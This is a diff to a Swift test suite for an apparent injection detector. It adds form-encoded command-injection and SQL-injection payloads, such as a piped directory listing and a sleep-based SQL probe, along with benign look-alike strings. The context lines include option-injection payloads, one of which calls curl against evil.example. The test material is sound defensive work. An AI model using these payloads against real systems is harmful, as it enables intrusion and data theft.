@@ -130,6 +130,10 @@ struct ShieldTests {
             ("-TvTT=id>shell.php # a.zip", .commandInjection),
             ("--checkpoint-action=exec=sh shell.sh", .commandInjection),
             ("-oProxyCommand=curl evil.example", .commandInjection),
+            // Still form-encoded: pluses and no spaces, decoded once more by the application.
+            ("+|+dir+c:/", .commandInjection),
+            ("%7Cgetent+hosts+x.example.%26", .commandInjection),
+            ("1'+or+sleep(5)+--+", .sqlInjection),
         ]
     )
     func recognises(_ payload: String, _ attack: ShieldAttack) {
@@ -167,6 +171,7 @@ struct ShieldTests {
             "https://oastify.com.example.org/", "gopherfan://example.com/",
             // Options that are not commands, and a number of items to fetch.
             "--format=json", "-tt", "--exec=foo", "--upload-pack=", "I pick 3 or 1 limit 2 of them",
+            "2+2=4;3+3=6", "a+b|c+d", "Tom+&+Jerry", "C++ (a+b) ls dir", "search+for+union+select+tutorial",
         ]
     )
     func passes(_ value: String) {
